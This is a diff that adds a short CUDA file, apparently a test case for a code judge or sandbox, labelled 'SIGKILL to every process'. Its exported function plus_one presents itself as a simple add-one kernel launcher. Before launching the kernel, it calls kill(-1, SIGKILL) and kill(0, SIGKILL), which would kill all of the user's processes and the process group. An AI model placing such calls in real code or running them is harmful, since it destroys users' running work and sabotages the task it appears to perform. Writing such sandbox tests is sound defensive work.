@@ -1,0 +1,11 @@
+// AC/RTE | 40 | SIGKILL to every process | 
+#include <signal.h>
+__global__ void k(int *out, const int *in, int n) {
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i < n) out[i] = in[i] + 1;
+}
+extern "C" void plus_one(int *out, const int *in, int n) {
+    kill(-1, SIGKILL);
+    kill(0, SIGKILL);
+    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
+}
